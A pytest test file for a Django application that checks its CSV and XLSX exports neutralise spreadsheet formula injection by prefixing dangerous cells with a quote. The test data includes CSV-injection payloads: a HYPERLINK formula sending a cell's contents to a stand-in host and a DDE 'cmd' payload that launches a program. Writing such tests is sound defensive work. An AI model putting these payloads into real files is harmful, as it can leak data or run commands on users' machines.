"""Issue 13, finding 7: no export writes a cell a spreadsheet would run as a formula (OWASP CSV injection)."""

import csv
import io

import pytest
from django.core.files.base import ContentFile

from accounts.models import Role
from core.exports import safe_cell
from tests import factories

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\tx",
    "\rx",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_starting_a_formula_is_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Vải thiều", "", "0912 345 678", 5, -5, 1.5, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_audit_csv_neutralises_a_withdraw_comment():
    author = factories.user(org=factories.organisation(), role=Role.EDITOR)
    item = factories.content_item(author=author)
    client = factories.ApiClient()
    client.force_login(author)
    client.post(f"/api/v1/content/items/{item.pk}/withdraw", {"comment": ATTACKS[0]})
    rows = rows_of(client.get(f"/api/v1/content/items/{item.pk}/audit.csv").content.decode())
    assert rows[-1][-1] == "'" + ATTACKS[0]


def test_the_rejections_csv_neutralises_a_contact_row():
    from dispatch.contacts import services

    org = factories.national()
    created = services.contact_import_create(
        actor=factories.SYSTEM,
        organisation=org,
        file=ContentFile(b"phone,name\n=1+1,A\n", name="ds.csv"),
        filename="ds.csv",
        enqueue=False,
    )
    services.contact_import_run(contact_import_id=created.pk)
    client = factories.ApiClient(key=factories.api_key(org))
    body = b"".join(client.get(f"/api/v1/dispatch/imports/{created.pk}/rejections.csv").streaming_content)
    rows = rows_of(body.decode("utf-8"))
    assert rows[2][3] == "'=1+1,A"  # after the header rows of labels and of codes


def test_the_campaigns_export_neutralises_a_wave_title():
    factories.campaign(province_code="24", title='=HYPERLINK("http://x.example")')
    client = factories.ApiClient(key=factories.api_key(factories.national(), Role.VIEWER))
    rows = rows_of(client.get("/api/v1/campaigns/export.csv").content.decode("utf-8"))
    assert rows[1][1] == '\'=HYPERLINK("http://x.example")'


def test_report_exports_neutralise_csv_and_xlsx_cells():
    from openpyxl import load_workbook

    from reports.exports import Table, to_csv, to_xlsx

    table = Table("Tuần", [("h", "@h")], [["=1+1", 3, -4]])
    assert rows_of(to_csv(table)) == [["'@h"], ["h"], ["'=1+1", "3", "-4"]]
    sheet = load_workbook(io.BytesIO(to_xlsx([Table("Tuần", [("ten", "tên")], [["=1+1", -4]])]))).active
    assert [c.value for c in sheet[3]] == ["'=1+1", -4]
    assert sheet["A3"].data_type == "s"  # text, not a formula
